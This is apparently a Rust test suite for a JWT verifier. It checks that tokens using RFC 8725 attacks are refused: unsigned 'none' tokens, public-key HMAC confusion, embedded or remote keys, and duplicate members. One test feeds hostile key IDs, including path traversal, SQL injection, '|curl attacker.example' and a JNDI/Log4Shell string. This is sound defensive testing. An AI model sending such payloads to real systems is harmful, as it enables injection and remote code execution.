//! What attackers try with tokens (RFC 8725, and the list of known weaknesses of libraries).

use aws_lc_rs::hmac;
use proptest::prelude::*;
use selvedge_protocol::limits::{TOKEN_BYTES_MAX, TOKEN_DEPTH_MAX};
use serde_json::{Value, json};

use crate::identity::jwt::tests::signer::{ALGORITHMS, Signer, encode, modulus};
use crate::identity::jwt::tests::{Desk, NOW_S, good, issuers, one_key, verify, with};
use crate::identity::jwt::{Claims, Fault, Refused};

fn invalid(fault: Fault) -> Refused {
    Refused::Invalid(fault)
}

#[tokio::test]
async fn a_good_token_of_each_algorithm_is_taken() {
    for algorithm in ALGORITHMS {
        let (signer, _, issuers) = one_key(algorithm);
        let claims = verify(&issuers, &signer.token("1", &good())).await.unwrap();
        assert_eq!(
            (&*claims.issuer, &*claims.subject),
            (super::ISSUER, "somebody")
        );
        assert_eq!(claims.expires_ms, (NOW_S + 60) * 1_000);
        assert_eq!(claims.key_id.as_deref(), Some("1"));
        // The one key there is does not have to be named, nor the type.
        let bare = signer.headed(&json!({ "alg": algorithm }), &good());
        let unnamed = Claims {
            key_id: None,
            ..claims
        };
        assert_eq!(verify(&issuers, &bare).await.unwrap(), unnamed);
    }
}

#[tokio::test]
async fn no_signature_is_none() {
    let (signer, _, issuers) = one_key("ES256");
    for algorithm in ["none", "None", "NONE", "nOnE", "", "ES256 ", "es256"] {
        for id in [
            json!({ "alg": algorithm }),
            json!({ "alg": algorithm, "kid": "1" }),
        ] {
            let signed = signer.headed(&id, &good());
            let (unsigned, _) = signed.rsplit_once('.').unwrap();
            for token in [signed.clone(), format!("{unsigned}.")] {
                let refused = verify(&issuers, &token).await.unwrap_err();
                assert_eq!(refused, invalid(Fault::Algorithm), "{algorithm}");
            }
        }
    }
    // And where the algorithm is right, the signature is not there.
    let token = signer.token("1", &good());
    let (unsigned, _) = token.rsplit_once('.').unwrap();
    let refused = verify(&issuers, &format!("{unsigned}.")).await.unwrap_err();
    assert_eq!(refused, invalid(Fault::Signature));
    assert_eq!(
        verify(&issuers, unsigned).await.unwrap_err(),
        invalid(Fault::Form)
    );
}

#[tokio::test]
async fn a_public_key_is_no_secret_of_hmac() {
    let (_, _, issuers) = one_key("RS256");
    let der = [
        b"\x30\x82\x01\x0a\x02\x82\x01\x01\x00".as_slice(),
        modulus(),
        b"\x02\x03\x01\x00\x01",
    ]
    .concat();
    let text = encode(modulus()).into_bytes();
    for (algorithm, kind) in [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
        // And under the name of the key's own algorithm.
        ("RS256", hmac::HMAC_SHA256),
    ] {
        for secret in [modulus(), der.as_slice(), text.as_slice()] {
            let header = json!({ "alg": algorithm, "kid": "1" }).to_string();
            let signed = format!("{}.{}", encode(header), encode(good().to_string()));
            let mac = hmac::sign(&hmac::Key::new(kind, secret), signed.as_bytes());
            let token = format!("{signed}.{}", encode(mac));
            let fault = match algorithm {
                "RS256" => Fault::Signature,
                _ => Fault::Algorithm,
            };
            assert_eq!(verify(&issuers, &token).await.unwrap_err(), invalid(fault));
        }
    }
}

#[tokio::test]
async fn a_key_signs_by_its_own_algorithm_alone() {
    let signers = ALGORITHMS.map(Signer::new);
    let desk = Desk::new(
        &signers
            .each_ref()
            .map(|signer| signer.jwk(signer.algorithm())),
    );
    let issuers = issuers(&desk);
    for signer in &signers {
        for key in ALGORITHMS {
            for algorithm in ALGORITHMS.into_iter().chain(["PS256", "ES384", "RS512"]) {
                let header = json!({ "alg": algorithm, "kid": key });
                let verified = verify(&issuers, &signer.headed(&header, &good())).await;
                let expected = match (algorithm == key, key == signer.algorithm()) {
                    (true, true) => Ok(()),
                    (true, false) => Err(invalid(Fault::Signature)),
                    (false, _) => Err(invalid(Fault::Algorithm)),
                };
                assert_eq!(verified.map(|_| ()), expected, "{header}");
            }
        }
        // Among several keys, one that is not named is not guessed.
        let header = json!({ "alg": signer.algorithm() });
        let refused = verify(&issuers, &signer.headed(&header, &good())).await;
        assert_eq!(refused.unwrap_err(), invalid(Fault::UnknownKey));
    }
}

#[tokio::test]
async fn a_token_does_not_bring_its_own_key() {
    let (_, desk, issuers) = one_key("ES256");
    let attacker = Signer::new("ES256");
    let jwk = attacker.jwk("1");
    for (member, value) in [
        ("jwk", jwk.clone()),
        ("jku", json!("https://attacker.example/keys")),
        ("x5u", json!("https://attacker.example/chain")),
        ("x5c", json!(["AAAA"])),
        ("x5t#S256", json!("AAAA")),
    ] {
        let header = json!({ "alg": "ES256", "kid": "1", member: value });
        let refused = verify(&issuers, &attacker.headed(&header, &good())).await;
        assert_eq!(refused.unwrap_err(), invalid(Fault::Signature), "{member}");
    }
    assert_eq!(desk.fetches(), 1);
}

#[tokio::test]
async fn the_id_of_a_key_is_only_compared() {
    let (_, desk, issuers) = one_key("EdDSA");
    let attacker = Signer::new("EdDSA");
    for id in [
        "",
        "2",
        "1 ",
        "1\0",
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "' OR '1'='1",
        "1' UNION SELECT 'key",
        "|curl attacker.example",
        "https://attacker.example/keys",
        "${jndi:ldap://attacker.example}",
    ] {
        let refused = verify(&issuers, &attacker.token(id, &good())).await;
        assert_eq!(refused.unwrap_err(), invalid(Fault::UnknownKey), "{id}");
    }
    for id in [
        json!(1),
        json!(null),
        json!(["1"]),
        json!({ "1": 1 }),
        json!("x".repeat(257)),
    ] {
        let header = json!({ "alg": "EdDSA", "kid": id });
        let refused = verify(&issuers, &attacker.headed(&header, &good())).await;
        assert_eq!(refused.unwrap_err(), invalid(Fault::KeyId));
    }
    // Once for the first of them, and for none after.
    assert_eq!(desk.fetches(), 1);
}

#[tokio::test]
async fn another_issuer_is_unknown_and_speaks_for_nobody() {
    let (signer, desk, issuers) = one_key("EdDSA");
    for name in [
        "https://other.example",
        "https://issuer.example/",
        "https://issuer.example ",
        "https://ISSUER.example",
        "http://issuer.example",
        "",
    ] {
        let refused = verify(&issuers, &signer.token("1", &with("iss", json!(name)))).await;
        assert_eq!(refused.unwrap_err(), Refused::UnknownIssuer, "{name}");
    }
    for value in [json!(null), json!([super::ISSUER]), json!(7)] {
        let refused = verify(&issuers, &signer.token("1", &with("iss", value))).await;
        assert_eq!(refused.unwrap_err(), invalid(Fault::Claim("iss")));
    }
    // Nobody is asked about an issuer that is not known.
    assert_eq!(desk.fetches(), 0);
}

#[tokio::test]
async fn keys_of_one_issuer_sign_nothing_of_another() {
    let (signer, other) = (Signer::new("EdDSA"), Signer::new("EdDSA"));
    let parts = [(super::ISSUER, &signer), ("https://other.example", &other)];
    let parts = parts.map(|(issuer, signer)| {
        let mut rules = super::rules();
        rules.issuer = issuer.to_owned();
        let source: Box<dyn super::Source> = Box::new(Desk::new(&[signer.jwk("1")]));
        (rules, source)
    });
    let issuers = super::Issuers::with_sources(parts, &super::Clock::manual(0, 1));
    assert!(verify(&issuers, &signer.token("1", &good())).await.is_ok());
    let refused = verify(&issuers, &other.token("1", &good()))
        .await
        .unwrap_err();
    assert_eq!(refused, invalid(Fault::Signature));
}

#[tokio::test]
async fn members_that_are_there_twice_are_refused() {
    let (signer, _, issuers) = one_key("EdDSA");
    let header = r#"{"alg":"EdDSA","kid":"1"}"#;
    let claims = good().to_string();
    let twice = claims.replacen('{', r#"{"sub":"admin","#, 1);
    let refused = verify(&issuers, &signer.texts(header, &twice))
        .await
        .unwrap_err();
    assert_eq!(refused, invalid(Fault::ClaimsJson));
    for header in [
        r#"{"alg":"EdDSA","alg":"none","kid":"1"}"#,
        r#"{"alg":"EdDSA","kid":"1","kid":"2"}"#,
        r#"{"alg":"EdDSA","kid":"1","kid":"2"}"#,
    ] {
        let refused = verify(&issuers, &signer.texts(header, &claims))
            .await
            .unwrap_err();
        assert_eq!(refused, invalid(Fault::HeaderJson));
    }
    assert!(
        verify(&issuers, &signer.texts(header, &claims))
            .await
            .is_ok()
    );
}

#[tokio::test]
async fn huge_and_deep_tokens_are_refused_before_they_cost_anything() {
    let (signer, desk, issuers) = one_key("EdDSA");
    let deep = |levels: usize| {
        let value = format!("{}{}", "[".repeat(levels), "]".repeat(levels));
        let claims = good()
            .to_string()
            .replacen('{', &format!(r#"{{"deep":{value},"#), 1);
        signer.texts(r#"{"alg":"EdDSA","kid":"1"}"#, &claims)
    };
    let refused = verify(&issuers, &deep(TOKEN_DEPTH_MAX)).await.unwrap_err();
    assert_eq!(refused, invalid(Fault::ClaimsJson));
    let refused = verify(&issuers, &deep(2_500)).await.unwrap_err();
    assert_eq!(refused, invalid(Fault::ClaimsJson));
    let wide = signer.token("1", &with("groups", json!(vec![1; 600])));
    assert!(wide.len() < TOKEN_BYTES_MAX);
    assert_eq!(
        verify(&issuers, &wide).await.unwrap_err(),
        invalid(Fault::ClaimsJson)
    );
    let huge = signer.token("1", &with("padding", json!("x".repeat(TOKEN_BYTES_MAX))));
    assert_eq!(
        verify(&issuers, &huge).await.unwrap_err(),
        invalid(Fault::TooLong)
    );
    assert_eq!(desk.fetches(), 0);
    assert!(verify(&issuers, &deep(TOKEN_DEPTH_MAX - 1)).await.is_ok());
}

#[tokio::test]
async fn tokens_for_another_purpose_are_refused() {
    let (signer, _, issuers) = one_key("EdDSA");
    for kind in [
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "token-introspection+jwt",
    ] {
        let header = json!({ "alg": "EdDSA", "kid": "1", "typ": kind });
        let refused = verify(&issuers, &signer.headed(&header, &good())).await;
        assert_eq!(refused.unwrap_err(), invalid(Fault::Type), "{kind}");
    }
}

/// Runs to its end what never waits for anything but the runtime.
fn on_runtime<T>(future: impl Future<Output = T>) -> T {
    let runtime = tokio::runtime::Builder::new_current_thread();
    let runtime = { runtime }.enable_time().build().unwrap();
    runtime.block_on(future)
}

#[derive(Debug, Clone)]
enum Change {
    Cut(prop::sample::Index),
    Byte(prop::sample::Index, u8),
    Repeat(prop::sample::Index),
    Swap(usize, usize),
    Insert(prop::sample::Index, char),
}

fn changes() -> impl Strategy<Value = Change> {
    let at = any::<prop::sample::Index>;
    prop_oneof![
        at().prop_map(Change::Cut),
        (at(), any::<u8>()).prop_map(|(at, by)| Change::Byte(at, by)),
        at().prop_map(Change::Repeat),
        (0..3_usize, 0..3_usize).prop_map(|(one, other)| Change::Swap(one, other)),
        (at(), any::<char>()).prop_map(|(at, new)| Change::Insert(at, new)),
    ]
}

fn changed(token: &str, change: &Change) -> String {
    let parts: Vec<_> = token.split('.').collect();
    match change {
        Change::Cut(at) => token[..at.index(token.len())].to_owned(),
        Change::Byte(at, by) => {
            let mut bytes = token.as_bytes().to_vec();
            let at = at.index(bytes.len());
            bytes[at] = by % 128;
            String::from_utf8(bytes).unwrap()
        }
        Change::Repeat(at) => {
            let mut parts = parts;
            let at = at.index(parts.len());
            parts.insert(at, parts[at]);
            parts.join(".")
        }
        Change::Swap(one, other) => {
            let mut parts = parts;
            parts.swap(*one, *other);
            parts.join(".")
        }
        Change::Insert(at, new) => {
            let mut text = token.to_owned();
            text.insert(at.index(token.len() + 1), *new);
            text
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Truncated, changed, with parts twice or in another order: only the token itself is taken.
    #[test]
    fn a_changed_token_is_refused(algorithm in 0..3_usize, change in changes()) {
        let taken: Result<(), TestCaseError> = on_runtime(async {
            let (signer, _, issuers) = one_key(ALGORITHMS[algorithm]);
            let token = signer.token("1", &good());
            let changed = changed(&token, &change);
            let verified = verify(&issuers, &changed).await;
            prop_assert_eq!(verified.is_ok(), changed == token);
            Ok(())
        });
        taken?;
    }

    /// Whatever claims are signed, they are checked or refused, and nothing panics.
    #[test]
    fn signed_garbage_does_no_harm(name in "iss|sub|aud|exp|nbf|iat|jti|x", text in "\\PC{0,40}", number in any::<f64>()) {
        on_runtime(async {
            let (signer, _, issuers) = one_key("EdDSA");
            for value in [json!(text), json!(number), json!([text, number]), Value::Null] {
                let _ = verify(&issuers, &signer.token("1", &with(&name, value))).await;
            }
        });
    }
}
